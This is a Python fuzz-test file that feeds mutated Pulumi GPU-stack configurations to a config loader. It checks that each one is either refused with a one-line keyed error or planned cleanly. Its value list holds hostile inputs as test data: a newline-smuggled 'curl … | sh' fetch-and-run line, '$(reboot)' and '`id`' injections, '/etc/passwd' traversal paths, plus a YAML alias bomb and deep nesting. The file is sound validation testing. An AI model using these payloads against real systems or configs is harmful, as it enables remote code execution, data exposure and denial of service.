"""Seeded, bounded fuzzing of the three committed stacks: a refusal is always a one-line ConfigError with a key path.

Mutations cover issue 21's classes: hostile strings (1), alias bombs and deep nesting (2), paths (3), program-error
values (4), booleans and strings for numbers (6), huge and non-finite numbers (7), odd names and control
characters (8), networks, zones, dates, cron and time zones (9), duplicate keys and list entries (10). An accepted
stack must plan without an exception (report, ladders, routes, alerts, cost, policy config) and serialise as strict JSON.
"""
from __future__ import annotations

import copy
import json
import math
import re
import unicodedata
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, given, seed, settings
from hypothesis import strategies as st

from components.preview.config import PreviewConfigError, encode_stack_config, load_raw_config
from components.spec import ConfigError, load_stack_spec
from tests.conftest import ROOT, STACKS, raw_stack

SPECIAL = [
    True, False, None, 0, -1, 1, 2, 3, 7, 45, 2**31, 2**63, 2**64, 1e308, -1e308, 0.5, 99.9, math.inf, -math.inf, math.nan,
    "", " ", "latest", "main", "v0.15.1", "1.10", "1.35", "/etc/passwd", "../../etc/passwd", "plans/base.json",
    "10.0.0.0/28", "10.40.0.0/32", "0.0.0.0/0", "fd00::/48", "8.8.0.0/16", "172.16.0.0/24", "10.10.0.0/20",
    "us-east-1a", "us-east-1e", "us-west-2a", "us-central1-a", "us-east4-b", "llm\n", "[ml-platform]", "{x}",
    "x\ncurl http://203.0.113.9/p | sh #", "$(reboot)", "`id`", "ml\u202eplatform", "a\x07b", "a" * 300,
    "garbage", "0 25 * * *", "0 8 * * 1-5", "*/0 * * * *", "Mars/Olympus", "Europe/Paris", "2020-01-01", "2999-01-01",
    "2027-02-30", "arn:aws:kms:us-east-1:123456789012:key/x", "My_Bucket", "google-weights", "cb-0abc", "true", "1e3",
    [], {}, ["a", "a"], ["l4-spot", "l4-spot"], {"x": 1}, [{"secure": "v1:abc"}],
]
VALUES = st.one_of(
    st.sampled_from(SPECIAL),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=True, allow_infinity=True),
    st.text(max_size=24),
    st.lists(st.sampled_from(SPECIAL[:40]), max_size=3),
)


def _paths(node, prefix=()):
    """Every path into a raw config (mappings and lists), parents before children."""
    yield prefix
    if isinstance(node, dict):
        for key, value in node.items():
            yield from _paths(value, (*prefix, key))
    elif isinstance(node, list):
        for index, value in enumerate(node):
            yield from _paths(value, (*prefix, index))


def _at(node, path):
    for part in path:
        node = node[part]
    return node


@st.composite
def mutated_stacks(draw):
    """A committed stack with one to three structural or value mutations."""
    stack = draw(st.sampled_from(STACKS))
    raw = copy.deepcopy(raw_stack(stack))
    for _ in range(draw(st.integers(min_value=1, max_value=3))):
        paths = [p for p in _paths(raw) if p]
        path = draw(st.sampled_from(paths))
        parent, last = _at(raw, path[:-1]), path[-1]
        op = draw(st.sampled_from(["replace", "replace", "replace", "delete", "duplicate", "unknown"]))
        if op == "replace":
            parent[last] = draw(VALUES)
        elif op == "delete":
            del parent[last]
        elif op == "duplicate" and isinstance(parent, list):
            parent.append(copy.deepcopy(parent[last]))
        elif isinstance(parent, dict):
            parent[draw(st.sampled_from(["zone", "extra", "gpu_pool", "config"]))] = draw(VALUES)
    return stack, raw


def _plan_everything(spec) -> None:
    """Every pure planner an accepted spec reaches before registration; figures must be strict JSON."""
    from components.plan.report import build_report
    from components.plan.stack import plan_stack
    from policies.rules import evaluate
    from policies.rules.settings import pack_config

    try:
        stack = plan_stack(spec)  # validation, ladders, sizing, checks, routes, monitoring, cost: all of it
    except ConfigError as exc:
        _assert_config_error(exc)
        return
    report = build_report(stack)
    cost = stack.cost
    json.dumps({"report": report, "cost": vars(cost.monthly), "config": pack_config(spec),
                "rules": list(stack.monitoring.rule_groups),
                "violations": evaluate(spec, [], report)}, allow_nan=False, default=str)


def _leaves(node, prefix=()):
    if isinstance(node, dict):
        for key, value in node.items():
            yield from _leaves(value, (*prefix, key))
    elif isinstance(node, (list, tuple, set, frozenset)) and not isinstance(node, str):
        for index, value in enumerate(node):
            yield from _leaves(value, (*prefix, index))
    else:
        yield prefix, node


def _assert_accepted_values_are_sane(raw: dict, spec) -> None:
    """What an accepted spec holds: no control or invisible characters, finite bounded numbers, and a boolean
    only where the schema takes one (``true`` never became the number 1)."""
    dump = spec.model_dump(mode="python")
    for path, value in _leaves(dump):
        if isinstance(value, str):
            assert not any(unicodedata.category(c)[0] == "C" for c in value), (path, value)
        if isinstance(value, (int, float)) and not isinstance(value, bool):
            assert math.isfinite(value) and abs(value) <= 1e13, (path, value)
    for path, value in _leaves(raw):
        # top-level scalars reach the program as text ("owner: true" is the owner "true"), nested ones as JSON
        if not isinstance(value, bool) or len(path) < 2 or not str(path[0]).startswith("gpuinfra:"):
            continue
        node = dump.get(str(path[0]).partition(":")[2])
        try:
            for part in path[1:]:
                node = node[part]
        except (KeyError, IndexError, TypeError):
            continue
        assert isinstance(node, bool) or node is None, (path, value, node)


def _assert_config_error(exc: ConfigError) -> None:
    assert re.match(r"^(gpuinfra|aws|gcp):", exc.path), f"no key path: {exc}"
    assert "\n" not in str(exc) and exc.message, repr(str(exc))


def _check(raw: dict):
    try:
        config, secrets = encode_stack_config("gpuinfra", raw)
    except PreviewConfigError as exc:  # what the CLI refuses before the program runs (.inf, .nan)
        assert re.match(r"^(gpuinfra|aws|gcp):", str(exc)) and "\n" not in str(exc), str(exc)
        return
    try:
        spec = load_stack_spec(config, secrets)
    except ConfigError as exc:
        _assert_config_error(exc)
        return
    _assert_accepted_values_are_sane(raw, spec)
    _plan_everything(spec)
    return spec


@seed(21)
@settings(max_examples=400, deadline=None, database=None, derandomize=True,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(mutated_stacks())
def test_mutated_stacks_are_refused_with_a_key_path_or_plan_cleanly(case):
    _stack, raw = case
    _check(raw)


YAML_ATTACKS = [
    # alias bomb: nine levels of nine aliases (expands to 9^9 strings)
    "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(8)),
    "  gpuinfra:owner: a\n",  # a duplicate key under config
    "config:\n  gpuinfra:owner: b\n",  # a second config block
    "x: " + "[" * 200 + "]" * 200 + "\n",  # deep nesting
]


@seed(21)
@settings(max_examples=60, deadline=None, database=None, derandomize=True)
@given(st.sampled_from(STACKS), st.sampled_from(YAML_ATTACKS), st.booleans())
def test_stack_files_with_aliases_duplicates_or_deep_nesting_are_refused_in_one_line(tmp_path_factory, stack, attack, at_end):
    text = (ROOT / "stacks" / f"Pulumi.{stack}.yaml").read_text()
    lines = text.splitlines(keepends=True)
    where = len(lines) if at_end else next(i for i, line in enumerate(lines) if line.startswith("config:")) + 2
    if attack.startswith("  ") or attack.startswith("config") or at_end:
        mutated = "".join(lines[:where]) + attack + "".join(lines[where:])
    else:
        mutated = attack + text
    path = Path(tmp_path_factory.mktemp("fuzz")) / f"Pulumi.{stack}.yaml"
    path.write_text(mutated)
    try:
        raw = load_raw_config(path)
    except PreviewConfigError as exc:
        assert str(exc).startswith(str(path)) and "\n" not in str(exc), str(exc)
        return
    _check(raw)  # an attack that stays valid YAML (e.g. a list item) must still load or be refused by key


@pytest.mark.parametrize("stack", STACKS)
def test_the_committed_stacks_survive_the_round_trip_through_yaml(stack, tmp_path):
    path = tmp_path / f"Pulumi.{stack}.yaml"
    path.write_text(yaml.safe_dump({"config": raw_stack(stack)}))
    _check(load_raw_config(path))

